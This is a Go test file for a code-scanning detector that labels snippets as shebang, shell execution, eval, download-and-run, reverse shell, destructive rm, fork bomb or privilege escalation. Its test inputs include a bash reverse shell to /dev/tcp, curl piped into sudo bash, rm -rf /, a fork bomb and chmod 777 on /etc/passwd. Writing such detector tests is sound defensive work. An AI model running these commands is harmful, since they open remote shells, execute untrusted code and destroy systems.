package detector

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

func TestScan(t *testing.T) {
	d := Default()

	tests := []struct {
		name string
		code string
		want []string
	}{
		{"plain function", "func add(a, b int) int { return a + b }", nil},
		{"sql", "SELECT * FROM users WHERE id = 1;", nil},
		{"shebang", "#!/bin/bash\necho hi", []string{"shebang"}},
		{"python subprocess", "import subprocess\nsubprocess.run(['ls'])", []string{"shell-exec"}},
		{"node child_process", "const cp = require('child_process')", []string{"shell-exec"}},
		{"js eval", "eval(userInput)", []string{"eval"}},
		{"curl pipe", "curl -fsSL https://get.example.sh | sudo bash", []string{"download-and-run"}},
		{"reverse shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", []string{"reverse-shell"}},
		{"rm root", "rm -rf / ", []string{"destructive-rm"}},
		{"rm relative is fine", "rm -rf ./build", nil},
		{"fork bomb", ":(){ :|:& };:", []string{"fork-bomb"}},
		{"chmod 777", "chmod 777 /etc/passwd", []string{"privilege-escalation"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, d.Scan(tt.code))
			assert.Equal(t, len(tt.want) > 0, d.IsExecutable(tt.code))
		})
	}
}

func TestScan_MultipleRules(t *testing.T) {
	code := "#!/bin/sh\ncurl http://x | sh\n"
	assert.Equal(t, []string{"shebang", "download-and-run"}, Default().Scan(code))
}

func TestParse_InvalidPattern(t *testing.T) {
	_, err := Parse([]byte("rules:\n  - name: broken\n    pattern: '(unclosed'\n"))
	assert.Error(t, err)
}

func TestRules(t *testing.T) {
	rules := Default().Rules()
	assert.NotEmpty(t, rules)
	for _, r := range rules {
		assert.NotEmpty(t, r.Name)
		assert.NotEmpty(t, r.Pattern)
	}
}
